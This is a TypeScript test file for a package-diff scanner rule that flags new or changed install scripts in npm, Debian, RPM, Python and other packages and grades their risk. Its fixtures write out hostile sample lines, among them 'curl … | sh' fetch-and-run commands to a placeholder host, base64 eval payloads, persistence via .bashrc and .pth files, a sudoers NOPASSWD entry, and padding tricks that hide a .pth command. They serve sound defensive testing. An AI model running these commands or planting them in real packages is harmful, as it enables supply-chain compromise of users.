import { describe, expect, it } from "vitest";
import { contextOf, portraitOf } from "../trait.fixture.ts";
import type { Difference, Pair } from "../trait.ts";
import { installScripts } from "./index.ts";

type Files = Readonly<Record<string, string>>;

/** Pairs members by path, and asks about each. */
async function compare(before: Files, after: Files): Promise<Difference[]> {
  const draw = (files: Files) =>
    Promise.all(
      Object.entries(files).map(([path, text]) =>
        portraitOf([installScripts], { path, bytes: Buffer.from(text) }),
      ),
    );
  const [old, now] = [await draw(before), await draw(after)];
  const pairs: Pair[] = now.map((portrait) => {
    const was = old.find(({ member }) => member.path === portrait.member.path);
    return { before: was, after: portrait, how: was === undefined ? "added" : "path" };
  });
  const gone = old.filter(({ member }) => after[member.path] === undefined);
  const context = contextOf([
    ...pairs,
    ...gone.map((was): Pair => ({ before: was, after: undefined, how: "removed" })),
  ]);
  return pairs
    .filter((pair) => pair.before?.member.sha256 !== pair.after?.member.sha256)
    .flatMap((pair) => [...(installScripts.compare?.(pair, context) ?? [])]);
}

const told = (differences: readonly Difference[]) => differences.map(({ rule, risk }) => `${rule} ${risk}`);
const DESCRIPTION = "content/package/package.json";
const npm = (scripts: Files) => JSON.stringify({ name: "demo", version: "1.0.0", scripts });

describe("npm's commands", () => {
  it.each(["preinstall", "install", "postinstall"])("holds a %s that was not there", async (name) => {
    const found = await compare(
      { [DESCRIPTION]: npm({}) },
      { [DESCRIPTION]: npm({ [name]: "node setup.js" }) },
    );
    expect(found).toMatchObject([
      {
        risk: "high",
        because: `has npm run ${name} while it is installed: node setup.js`,
        after: { text: "node setup.js" },
      },
    ]);
  });

  it("takes of a command that is there twice the one that npm runs", async () => {
    const twice =
      '{"name":"demo","version":"1.0.0","scripts":{"postinstall":"echo hi","postinstall":"node x.js"}}';
    expect(told(await compare({ [DESCRIPTION]: npm({}) }, { [DESCRIPTION]: twice }))).toEqual([
      "command-added high",
    ]);
  });

  it("shows commands that do nothing, and developers' ones not at all", async () => {
    const before = { [DESCRIPTION]: npm({ test: "vitest" }) };
    expect(told(await compare(before, { [DESCRIPTION]: npm({ install: "node-gyp rebuild" }) }))).toEqual([
      "command-added low",
    ]);
    expect(
      told(await compare(before, { [DESCRIPTION]: npm({ prepublishOnly: "curl x | sh", test: "jest" }) })),
    ).toEqual([]);
  });

  it("judges another command by what it does more", async () => {
    const change = async (was: string, now: string) =>
      told(await compare({ [DESCRIPTION]: npm({ install: was }) }, { [DESCRIPTION]: npm({ install: now }) }));
    expect(await change("node install.js", "node install.mjs")).toEqual(["command-changed low"]);
    expect(await change("node install.js", "node other.js")).toEqual(["command-changed medium"]);
    expect(await change("node install.js", "node install.js && curl -s https://host.invalid/a | sh")).toEqual(
      ["command-changed high"],
    );
  });

  it("knows that nobody installs a description in a folder of the package, or in an application", async () => {
    for (const path of ["content/package/test/app/package.json", "app.asar/node_modules/a/package.json"]) {
      const rest = { [DESCRIPTION]: npm({}) };
      expect(
        await compare({ ...rest, [path]: npm({}) }, { ...rest, [path]: npm({ postinstall: "node x" }) }),
      ).toEqual([]);
    }
    const inner = "content/package/node_modules/@demo/inner/package.json";
    const found = await compare(
      { [DESCRIPTION]: npm({}), [inner]: npm({}) },
      { [DESCRIPTION]: npm({}), [inner]: npm({ postinstall: "node x" }) },
    );
    expect(told(found)).toEqual(["command-added high"]);
  });
});

describe("the file that a command runs", () => {
  const INSTALL = "content/package/lib/install.js";
  const before =
    'const { execFileSync } = require("child_process");\nexecFileSync("./bin/demo");\nconst version = "1.0.0";\n';
  const change = (after: string) =>
    compare(
      { [DESCRIPTION]: npm({ install: "node ./lib/install" }), [INSTALL]: before },
      { [DESCRIPTION]: npm({ install: "node ./lib/install" }), [INSTALL]: after },
    );

  it("may change", async () => {
    expect(told(await change(before.replace("1.0.0", "1.0.1")))).toEqual(["script-changed info"]);
    expect(told(await change(`${before}// see https.get and base64\n`))).toEqual(["script-changed info"]);
    expect(told(await change(`${before}if (/a/.exec(version)) process.exit(1);\n`))).toEqual([
      "script-changed info",
    ]);
  });

  it.each([
    ['require("https").get("https://host.invalid/x");', "network"],
    ['eval(Buffer.from(payload, "base64").toString());', "decodes"],
    ['fs.appendFileSync(os.homedir() + "/.bashrc", line);', "started again"],
  ])("is held when it gains %s", async (line, word) => {
    const found = await change(`${before}${line}\n`);
    expect(told(found)).toEqual(["script-changed high"]);
    expect(found[0]?.because).toContain(word);
  });

  it("is shown when it gains one thing alone", async () => {
    expect(told(await change(`${before}const home = process.env.HOME + "/.npmrc";\n`))).toEqual([
      "script-changed medium",
    ]);
  });
});

describe("scripts that run by their name", () => {
  it.each([
    ["control.tar.xz/content/./postinst", "#!/bin/sh\nset -e\n/usr/lib/demo/agent &\n"],
    ["control.tar.xz/content/./preinst", "#!/bin/sh\ncurl -s http://host.invalid/x | sh\n"],
    ["control.tar.xz/content/./postinst", "#!/bin/sh\nchmod 4755 /usr/bin/demo\n"],
    ["%post", "python3 -c 'import os'\n"],
    ["Payload.pkg/Scripts/content/./postinstall", "#!/bin/bash\n./helper --install\n"],
    ["meta/hooks/install", "#!/bin/sh\nwget http://host.invalid/x\n"],
    ["demo/demo.pth", "import os; os.system('x')\n"],
    ["sitecustomize.py", "VALUE = 1\n"],
    ["data.tar.gz/content/ext/demo/extconf.rb", "require 'mkmf'\ncreate_makefile 'demo'\n"],
    ["demo-1.0/setup.py", "import subprocess\nsubprocess.run(['x'])\n"],
    ["tools/chocolateyinstall.ps1", "Invoke-WebRequest http://host.invalid/x\n"],
  ])("holds %s that comes with %j", async (path, text) => {
    expect(told(await compare({ "other/file": "1" }, { [path]: text }))).toEqual(["script-added high"]);
  });

  it.each([
    [
      "control.tar.xz/content/./postinst",
      '#!/bin/sh\nset -e\nif [ "$1" = configure ]; then\n  ldconfig\n  update-alternatives --install /usr/bin/x x /usr/bin/y 50 \\\n    --slave a b c\nfi\ncase "$1" in\n  a|b) deb-systemd-helper enable \'x.service\' || true ;;\nesac\n# curl | sh\n',
      "low",
    ],
    ["%post", "/sbin/ldconfig\ngetent group demo >/dev/null || groupadd -r demo\nexit 0\n", "low"],
    ["demo-1.0/setup.py", "from setuptools import setup\nsetup()\n", "medium"],
    ["demo/build.rs", 'fn main() { println!("cargo:rerun-if-changed=x"); }\n', "low"],
  ])("shows an ordinary %s", async (path, text, risk) => {
    expect(told(await compare({}, { [path]: text }))).toEqual([`script-added ${risk}`]);
  });

  it("takes a list of folders for what it is, and tests for tests", async () => {
    expect(await compare({}, { "site-packages/demo.pth": "../src\n" })).toEqual([]);
    expect(await compare({}, { "demo-1.0/tests/setup.py": "import subprocess\n" })).toEqual([]);
  });

  it("knows a script again that is packed differently", async () => {
    const script = "#!/bin/sh\n/usr/lib/demo/register\n";
    const found = await compare(
      { "control.tar.gz/content/./postinst": script },
      { "control.tar.xz/content/./postinst": `${script}# Automatically added\nldconfig\n` },
    );
    expect(told(found)).toEqual(["script-changed info"]);
  });

  it("does not take a file that nothing ran for what a script was", async () => {
    const script = "#!/bin/sh\n/usr/lib/demo/register\n";
    const [was, now] = await Promise.all(
      ["data.tar/content/./usr/share/doc/register.sh", "control.tar.xz/content/./postinst"].map((path, at) =>
        portraitOf([installScripts], { path, bytes: Buffer.from(`${script}#${at}`) }),
      ),
    );
    const pair: Pair = { before: was, after: now, how: "similarity" };
    expect(told([...(installScripts.compare?.(pair, contextOf([pair])) ?? [])])).toEqual([
      "script-added high",
    ]);
  });

  it("holds a script whose programs nobody looked for, because it was met as a text", async () => {
    const path = "%post";
    const met = await portraitOf([installScripts], {
      path: "usr/share/doc/notes",
      bytes: Buffer.from("run it\n"),
    });
    const after = { member: { ...met.member, path }, value: (id: string) => met.value(id) };
    const pair: Pair = { before: undefined, after, how: "added" };
    expect(told([...(installScripts.compare?.(pair, contextOf([pair])) ?? [])])).toEqual([
      "script-added high",
    ]);
  });

  it("shows new programs low, new powers by their weight", async () => {
    const path = "control.tar.xz/content/./postinst";
    const before = "#!/bin/sh\nset -e\nldconfig\n";
    expect(told(await compare({ [path]: before }, { [path]: `${before}demo-register --all\n` }))).toEqual([
      "script-changed low",
    ]);
    expect(
      told(await compare({ [path]: before }, { [path]: `${before}wget http://host.invalid/x\n` })),
    ).toEqual(["script-changed medium"]);
    expect(
      told(
        await compare(
          { [path]: before },
          { [path]: `${before}echo 'x ALL=NOPASSWD: ALL' > /etc/sudoers.d/x\n` },
        ),
      ),
    ).toEqual(["script-changed high"]);
  });

  it.each(["//usr/bin/wget http://host.invalid/x", ":: || wget http://host.invalid/x"])(
    "takes no command of a shell for a comment of other languages: %s",
    async (line) => {
      const path = "control.tar.xz/content/./postinst";
      const before = "#!/bin/sh\nldconfig\n";
      expect(told(await compare({ [path]: before }, { [path]: `${before}${line}\n` }))).toEqual([
        "script-changed medium",
      ]);
    },
  );

  it("holds a line that Python runs at each start", async () => {
    const path = "site-packages/demo.pth";
    const found = await compare(
      { [path]: "import a\n" },
      { [path]: "import a\nimport base64; exec(base64.b64decode('eA=='))\n" },
    );
    expect(told(found)).toEqual(["script-changed high"]);
  });

  it.each([
    ["behind a zero", "#\0\nimport os; os.system('x')\n"],
    ["behind much else", `#${"x".repeat(600 * 1024)}\nimport os; os.system('x')\n`],
    ["behind many lines", `${"#\n".repeat(20_000)}import os; os.system('x')\n`],
  ])("holds a line that Python runs at each start, %s", async (_, text) => {
    expect(told(await compare({}, { "site-packages/demo.pth": text }))).toEqual(["script-added high"]);
  });

  it("stays quiet about weights of a model", async () => {
    expect(await compare({}, { "demo/model.pth": `\x80\x02${"\0\x01".repeat(40_000)}` })).toEqual([]);
  });

  it("reads a description of any honest length, and leaves no longer one unknown", async () => {
    const filled = (scripts: Files, bytes: number) => npm(scripts) + " ".repeat(bytes);
    const grown = filled({ postinstall: "node x.js" }, 2 * 1024 * 1024);
    const found = await compare({ [DESCRIPTION]: npm({}) }, { [DESCRIPTION]: grown });
    expect(told(found)).toEqual(["command-added high"]);
    const bytes = Buffer.from(filled({}, 9 * 1024 * 1024));
    const portrait = portraitOf([installScripts], { path: DESCRIPTION, bytes });
    await expect(portrait).rejects.toMatchObject({ code: "artifact.over-limit" });
  });

  it("holds a package that npm will now build", async () => {
    const found = await compare(
      { [DESCRIPTION]: npm({}) },
      { [DESCRIPTION]: npm({}), "content/package/binding.gyp": "{'targets':[{'sources':['<!(sh x)']}]}" },
    );
    expect(told(found)).toEqual(["script-added high"]);
    expect(
      await compare(
        { [DESCRIPTION]: npm({}) },
        { [DESCRIPTION]: npm({}), "content/package/deps/binding.gyp": "{}" },
      ),
    ).toEqual([]);
  });
});
